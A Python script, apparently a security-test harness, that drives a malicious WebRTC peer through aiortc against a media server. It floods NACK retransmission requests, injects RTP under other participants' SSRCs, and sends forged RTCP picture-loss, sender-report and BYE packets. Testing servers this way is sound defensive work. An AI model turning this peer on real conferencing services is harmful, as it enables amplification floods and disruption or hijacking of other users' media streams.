"""A peer of aiortc with good keys and no good intentions: `attacker_peer.py publish|play URL TOKEN [SSRC]`.

A publisher announces that SSRC as its own.

It joins as anybody may, and says a line with what it hears: packets and last number of each SSRC of video. Then it does what
a line of its input says, and says another line when that is done:

{"nacks": {"ssrc": S, "numbers": [first, count], "times": N, "per_second": R}}   asks to have packets sent again
{"rtp": {"ssrc": S, "count": N}}      sends media of that SSRC, sealed with its own keys
{"rtcp": {"ssrc": S, "count": N}}     sends reports, requests and goodbyes of that SSRC, and about it

It leaves when its input ends. What it hears it neither decodes nor answers by itself.
"""

import asyncio
import json
import struct
import sys
import threading
import time

from aiortc import RTCConfiguration, RTCPeerConnection, RTCSessionDescription, VideoStreamTrack
from aiortc.rtp import RTCP_RTPFB_NACK, RtcpByePacket, RtcpPsfbPacket, RtcpRtpfbPacket, RtpPacket

from signalling import Resource

PICTURE_LOSS = 1  # RFC 4585 section 6.3.1
OWN_SSRC = 0x0BAD0BAD
UNKNOWN = 50  # a payload type that nobody negotiates; a known one would tell which line the packet belongs to


class Attacker:
    def __init__(self, role, announced=None):
        self._connection = RTCPeerConnection(RTCConfiguration(iceServers=[]))
        self._heard = {}
        if role == "publish":
            self._side = self._connection.addTransceiver(VideoStreamTrack(), direction="sendonly").sender
            if announced is not None:
                self._side._ssrc = int(announced)
        else:
            self._side = self._connection.addTransceiver("video", direction="recvonly").receiver

    async def _hear(self, data, arrival_time_ms):
        number, _, ssrc = struct.unpack_from("!HLL", data, 2)
        heard = self._heard.setdefault(ssrc, {"packets": 0})
        heard["packets"] += 1
        heard["last"] = number

    def report(self, **more):
        line = {"connected": self._connection.connectionState == "connected", "heard": self._heard, **more}
        print(json.dumps(line), flush=True)

    async def join(self, resource):
        await self._connection.setLocalDescription(await self._connection.createOffer())
        answer = await asyncio.to_thread(resource.offer, self._connection.localDescription.sdp)
        await self._connection.setRemoteDescription(RTCSessionDescription(answer, "answer"))
        self._side.transport._handle_rtp_data = self._hear

    async def leave(self):
        await self._connection.close()

    async def nacks(self, ssrc, numbers, times, per_second):
        first, count = numbers
        lost = [(first + place) & 0xFFFF for place in range(count)]
        packet = RtcpRtpfbPacket(fmt=RTCP_RTPFB_NACK, ssrc=OWN_SSRC, media_ssrc=ssrc, lost=lost)
        await self._repeat([bytes(packet)], times, per_second)

    async def rtp(self, ssrc, count):
        for number in range(count):
            payload = b"\x10\x00" + bytes(500)
            packet = RtpPacket(payload_type=UNKNOWN, sequence_number=number, timestamp=number, ssrc=ssrc, payload=payload)
            await self._repeat([packet.serialize()], 1, 1000)

    async def rtcp(self, ssrc, count):
        about = [
            RtcpPsfbPacket(fmt=PICTURE_LOSS, ssrc=OWN_SSRC, media_ssrc=ssrc),
            RtcpRtpfbPacket(fmt=RTCP_RTPFB_NACK, ssrc=OWN_SSRC, media_ssrc=ssrc, lost=[1, 2, 3]),
        ]
        # A sender report of a time long gone: version 2, length in words less one, five words about the sender.
        report = struct.pack("!BBHLLLLLL", 0x80, 200, 6, ssrc, 1, 1, 1, 1, 1)
        await self._repeat([*map(bytes, about), report, bytes(RtcpByePacket(sources=[ssrc]))], count, 1000)

    async def _repeat(self, packets, times, per_second):
        begun = time.monotonic()
        for turn in range(times):
            for packet in packets:
                await self._side.transport._send_rtp(packet)
            await asyncio.sleep(max(0, begun + (turn + 1) / per_second - time.monotonic()))


def lines_of_input(loop, queue):
    for line in sys.stdin:
        loop.call_soon_threadsafe(queue.put_nowait, json.loads(line))
    loop.call_soon_threadsafe(queue.put_nowait, None)


async def main(role, url, token, *announced):
    attacker, resource, queue = Attacker(role, *announced), Resource(url, token), asyncio.Queue()
    await attacker.join(resource)
    arguments = (asyncio.get_running_loop(), queue)
    threading.Thread(target=lines_of_input, args=arguments, daemon=True).start()
    done = 0
    while True:
        attacker.report(done=done)
        try:
            command = await asyncio.wait_for(queue.get(), 0.2)
        except asyncio.TimeoutError:
            continue
        if command is None:
            break
        for name, parameters in command.items():
            await getattr(attacker, name)(**parameters)
        done += 1
    await asyncio.to_thread(resource.leave)
    await attacker.leave()


asyncio.run(main(*sys.argv[1:]))
